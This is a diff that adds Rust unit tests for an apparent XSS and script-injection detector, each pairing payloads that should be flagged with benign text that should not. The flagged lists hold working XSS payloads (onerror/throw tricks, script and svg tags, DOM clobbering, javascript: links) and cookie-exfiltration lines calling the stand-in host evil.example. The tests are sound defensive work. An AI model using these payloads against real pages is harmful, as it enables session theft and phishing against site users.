@@ -1149,3 +1149,198 @@ fn location_assigned_from_window_data() {
         ],
     );
 }
+
+#[test]
+fn handler_assigned_in_a_block() {
+    // `{onerror=alert}throw 1`: the error handler set inside a block, then an exception
+    // thrown to call it (XSS without parentheses)
+    judge(
+        &[
+            "{onerror=alert}throw 1",
+            "{onerror=eval}throw name",
+            "{window.onerror=alert}throw 1",
+            "{onerror=confirm};throw document.domain",
+            "';{onerror=alert}throw 1;//",
+            "if(1){onerror=alert}throw 1",
+            "{onerror=print}throw 1",
+            "{onerror=print};throw 1",
+        ],
+        &[
+            "{level=alert}",
+            "{severity=alert} disk almost full",
+            "{type=alert}: {message}",
+            "config {mode=alert}",
+            "window.onerror = handler; // throw errors here",
+            "Set onerror to a logger, then throw to test it",
+        ],
+    );
+}
+
+#[test]
+fn unicode_line_terminators_start_code() {
+    judge(
+        &[
+            "\u{2028}alert(1)//",
+            "\u{2029}alert(1)//",
+            "\u{2028}location=name//",
+        ],
+        &["line one\u{2028}line two", "\u{2028}alerts are sent daily"],
+    );
+}
+
+#[test]
+fn window_functions_where_javascript_is_read() {
+    judge(
+        &[
+            "1?print():0",
+            "void alert(1)",
+            "1-open('//evil.example/p')-1",
+            "open('//evil.example/phish')",
+            "open(\"https://evil.example/login\")",
+            "open('javascript:alert(1)')",
+        ],
+        &[
+            "print()",
+            "print('hello')",
+            "open('data.csv')",
+            "open(name)",
+            "with open('/etc/hosts') as f:",
+            "void main() {}",
+            "void print() const;",
+            "void print();",
+            "2 + print(x)",
+        ],
+    );
+}
+
+#[test]
+fn harmless_browser_calls_with_literals() {
+    // literals and plain variables passed to members that are no sink, the result at most
+    // read: nothing reaches the browser's code, markup, navigation or network
+    judge(
+        &[
+            "document.getElementById('x').innerHTML=name",
+            "document.getElementById('f').submit()",
+            "document.querySelector('form').action='//evil.example'",
+            "navigator.serviceWorker.register('/uploads/sw.js')",
+            "window.postMessage(document.cookie,'*')",
+            "window.postMessage(name,'*')",
+            "document.title=document.cookie",
+            "location.protocol='javascript'",
+            "location.replace(u)",
+            "window.onload=alert",
+            "window.onerror=eval;throw name",
+            "setTimeout(()=>alert(1),0)",
+            "setTimeout(function(){alert(1)},0)",
+            "setTimeout('alert(1)',0)",
+            "fetch('//evil.example/?'+document.cookie)",
+            "fetch('/api').then(r=>r.text()).then(t=>fetch('//evil.example/'+t))",
+            "fetch(name)",
+            "fetch(u,{method:'POST',body:document.cookie})",
+            "fetch(location.hash.slice(1))",
+        ],
+        &[
+            "window.scrollTo(0, 0)",
+            "document.getElementById('main')",
+            "document.getElementById('email').value",
+            "navigator.clipboard.writeText(text)",
+            "document.title = 'Home'",
+            "window.onload = init;",
+            "setTimeout(() => refresh(), 1000);",
+            "fetch('/api/users').then(r => r.json())",
+            "const res = await fetch(url);",
+        ],
+    );
+}
+
+#[test]
+fn tags_named_in_prose() {
+    judge(
+        &[
+            "<script>alert(1)</script>",
+            "<script>",
+            "x <script>alert(1)//",
+            "<script src=//evil.example/x.js>",
+            "<title>",
+            "\"><textarea>",
+            "<iframe src=//evil.example>",
+            "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
+            "x </script><script>alert(1)</script>",
+            "</script><svg onload=alert(1)>",
+        ],
+        &[
+            "How do I use <script> tags in HTML?",
+            "Put the <script> tag at the end of <body>",
+            "<script> vs <script defer> vs <script async>",
+            "<title> should be under 60 characters",
+            "<textarea> is resizable by default",
+            "<noscript> fallback for users without JS",
+            "The <iframe> element embeds another page",
+            "The </script> sequence ends the script block",
+            "How to escape </script> inside a JS string?",
+        ],
+    );
+}
+
+#[test]
+fn ids_that_clobber_the_document() {
+    judge(
+        &[
+            "<img id=currentScript src=//evil.example/x.js>",
+            "<img name=getElementById><img name=cookie>",
+            "<a id=__proto__ name=src href=//evil.example/x.js>",
+            "<form name=\"querySelector\">",
+        ],
+        &[
+            "<a name=\"top\">Top</a>",
+            "<input name=location placeholder=\"City\">",
+            "<div id=\"main-body\">x</div>",
+            "<img name=body src=a.png>",
+            "<h2 id=\"currentscript\">document.currentScript</h2>",
+        ],
+    );
+}
+
+#[test]
+fn element_methods_called_from_a_handler() {
+    judge(
+        &[
+            "insertAdjacentHTML('beforeend',name)",
+            "\" onfocus=\"insertAdjacentHTML('afterend',location.hash)",
+        ],
+        &[
+            "el.insertAdjacentHTML('beforeend', html)",
+            "Use insertAdjacentHTML() rather than innerHTML when appending.",
+        ],
+    );
+}
+
+#[test]
+fn settled_text_needs_no_second_opinion() {
+    use super::settled_text;
+    for v in [
+        "<https://example.com>",
+        "[Click here](https://example.com)",
+        "[docs](http://localhost:3000/guide)",
+        "document.getElementById('main')",
+        "document.title = 'Home'",
+        "window.scrollTo(0, 0);",
+    ] {
+        assert!(settled_text(v), "{v:?}");
+    }
+    for v in [
+        "<javascript:alert(1)>",
+        "[x](javascript:alert(1))",
+        "[x](https://a.example/\"onmouseover=alert(1))",
+        "[x](https://a.example/) <img src=x onerror=alert(1)>",
+        "<https://a.example/><script>alert(1)</script>",
+        "document.getElementById('x').innerHTML=name",
+        "window.postMessage(document.cookie,'*')",
+        "foo.bar(alert(1))",
+        "console.log(document.cookie)",
+        "document.title='a';alert(1)",
+        "$event.view.alert(1)",
+    ] {
+        assert!(!settled_text(v), "{v:?}");
+    }
+}
